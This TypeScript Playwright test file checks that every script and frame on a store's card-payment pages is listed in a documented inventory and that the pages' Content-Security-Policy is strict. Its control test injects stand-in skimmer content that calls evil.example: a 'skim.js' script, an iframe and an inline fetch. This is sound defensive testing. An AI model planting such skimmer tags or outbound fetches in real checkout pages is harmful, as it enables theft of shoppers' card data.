import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, inject, test } from 'vitest'
import { launchBrowser } from '#tests/fixtures/browser/browser.ts'
import { openVisit } from '#tests/fixtures/browser/page.ts'
import {
  button,
  cardFrame,
  choosePayment,
  fillCart,
  GOOD_CARD,
  goToPayment,
  makeBuyer,
  placeButton,
  reviewByCard,
} from '#tests/fixtures/buyers/buying.ts'

type Entry = { owner: string; reason: string } & (
  | { kind: 'inline'; sha256?: string; starts?: string }
  | { kind: 'file' | 'frame'; url: string }
)

/** The scripts that may run on payment pages: docs/payment-scripts.json. */
const inventory = JSON.parse(readFileSync('docs/payment-scripts.json', 'utf8')) as Entry[]

let browser: Browser
beforeAll(async () => {
  browser = await launchBrowser()
})
afterAll(() => browser.close())

/** The payment sandbox as the store's pages name it. */
const provider = (): string => new URL(inject('sandboxUrl').replace('localhost', '127.0.0.1')).origin

const digest = (body: Buffer | string): string => createHash('sha256').update(body).digest('base64')

const isListedInline = (script: string): boolean =>
  inventory.some(
    (entry) =>
      entry.kind === 'inline' &&
      (entry.sha256 === digest(script) ||
        (entry.starts !== undefined && script.trimStart().startsWith(entry.starts))),
  )

/** A provider's script, listed by its address, because the provider may change its content. */
const isProvidersScript = (url: URL): boolean =>
  inventory.some(
    (entry) =>
      entry.kind === 'file' && entry.url.replace('{provider}', provider()) === url.origin + url.pathname,
  )

const isBuilt = (path: string, body: Buffer): boolean =>
  /^\/assets\/[\w.-]+\.js$/.test(path) &&
  digest(body) === digest(readFileSync(join('build/store/client', path)))

/** Scripts and frames that the browser loaded on a payment page and that the list does not name. */
function unlisted(storeUrl: string) {
  const found: string[] = []
  const reading: Promise<unknown>[] = []
  const inline = (html: string) => {
    for (const [, attributes = '', body = ''] of html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g))
      if (
        !/\ssrc=|type="application\/(?:ld\+)?json"|speculationrules/.test(attributes) &&
        !isListedInline(body)
      )
        found.push(`inline ${digest(body)}: ${body.slice(0, 80)}`)
  }
  const read = (url: URL, body: Promise<Buffer>, check: (body: Buffer) => unknown) =>
    reading.push(body.then(check, () => found.push(`unread ${url.href}`)))
  const readScript = (url: URL, isOurs: boolean, body: Promise<Buffer>) =>
    read(url, body, (bytes) => {
      if (isOurs ? !isBuilt(url.pathname, bytes) : !isProvidersScript(url)) found.push(`file ${url.href}`)
    })
  const readPage = (url: URL, body: Promise<Buffer>) => read(url, body, (bytes) => inline(bytes.toString()))
  const check = (
    url: URL,
    type: string,
    { body, again }: { body: () => Promise<Buffer>; again: () => Promise<Buffer> },
  ): void => {
    const isOurs = url.origin === new URL(storeUrl).origin
    // The browser drops a response's body when it leaves the page. Our files never change under one name.
    if (type === 'script') readScript(url, isOurs, isOurs ? body().catch(again) : body())
    else if (!isOurs) found.push(`${type === 'document' ? 'frame' : type} ${url.href}`)
    else if (type === 'document') readPage(url, body())
  }
  const watch = (page: Page) =>
    page.on('response', (response) => {
      const url = new URL(response.url())
      const isProviders = url.origin === provider() && response.frame() !== page.mainFrame()
      if (!isProviders && response.status() < 300)
        check(url, response.request().resourceType(), {
          body: () => response.body(),
          again: async () => (await page.request.get(url.href)).body(),
        })
    })
  return { watch, inline, result: () => Promise.all(reading).then(() => found) }
}

test('the inventory names every script of a card payment, with an owner and a reason', async () => {
  expect(inventory.filter(({ owner, reason }) => owner.length < 3 || reason.length < 10)).toEqual([])
  const buyer = await openVisit(browser, inject('storeUrl'))
  const { page } = buyer
  await fillCart(page)
  const seen = unlisted(inject('storeUrl'))
  seen.watch(page)

  await goToPayment(page, makeBuyer('Ida'))
  await cardFrame(page).getByLabel('Card number').waitFor()
  // The browser drops a response's body when it leaves the page.
  await seen.result()
  await Promise.all([
    page.waitForResponse((response) => response.url().includes('/paypal/sdk/js')),
    choosePayment(page, /^PayPal/),
  ])
  await Promise.all([
    page.waitForResponse((response) => response.url().includes('/google/pay.js')),
    choosePayment(page, /^Google Pay/),
  ])
  // The empty delivery form has loaded Amazon's script before this.
  await choosePayment(page, /^Amazon/)
  await button(page, 'Pay with Amazon').waitFor()
  await choosePayment(page, /^Credit or debit card/)
  await seen.result()
  const policy = (await page.reload())?.headers()['content-security-policy'] ?? ''
  await reviewByCard(page, GOOD_CARD)
  await placeButton(page).waitFor()

  expect(await seen.result()).toEqual([])
  expect(policy).not.toMatch(/unsafe|\*|strict-dynamic/)
  expect(
    /script-src ([^;]*)/
      .exec(policy)?.[1]
      ?.split(' ')
      .filter((source) => !source.startsWith("'sha256-")),
  ).toEqual(["'self'", provider()])
  expect(/frame-src ([^;]*)/.exec(policy)?.[1]).toBe(provider())
  expect(policy).toMatch(/connect-src 'self'.*base-uri 'none'.*form-action 'self'.*object-src 'none'/)
  await buyer.context.close()
})

test('control: finds an unlisted file, a changed file, an unlisted inline script and frame', async () => {
  const buyer = await openVisit(browser, inject('storeUrl'), { bypassCSP: true })
  const seen = unlisted(inject('storeUrl'))
  seen.watch(buyer.page)
  let changed = ''
  await buyer.page.route('**/assets/*.js', async (route) => {
    if (changed !== '') return route.continue()
    changed = new URL(route.request().url()).pathname
    const answer = await route.fetch()
    await route.fulfill({ response: answer, body: `${await answer.text()};` })
  })
  await buyer.page.route('https://evil.example/**', (route) =>
    route.fulfill({
      contentType: route.request().resourceType() === 'script' ? 'text/javascript' : 'text/html',
      body: '',
    }),
  )
  await buyer.page.goto('/checkout/payment')
  await buyer.page.evaluate(() => {
    document.body.append(
      Object.assign(document.createElement('iframe'), { src: 'https://evil.example/frame' }),
    )
    document.body.append(
      Object.assign(document.createElement('script'), { src: 'https://evil.example/skim.js' }),
    )
  })
  await buyer.page.waitForResponse('https://evil.example/skim.js').catch(() => undefined)
  await expect.poll(async () => (await seen.result()).length).toBe(3)
  seen.inline('<script>fetch("https://evil.example")</script>')

  expect(
    (await seen.result())
      .map((line) => line.replace(inject('storeUrl'), '').replace(/ \S{44}: /, ' '))
      .toSorted(),
  ).toEqual(
    [
      `file ${changed}`,
      'file https://evil.example/skim.js',
      'frame https://evil.example/frame',
      'inline fetch("https://evil.example")',
    ].toSorted(),
  )
  await buyer.context.close()
})
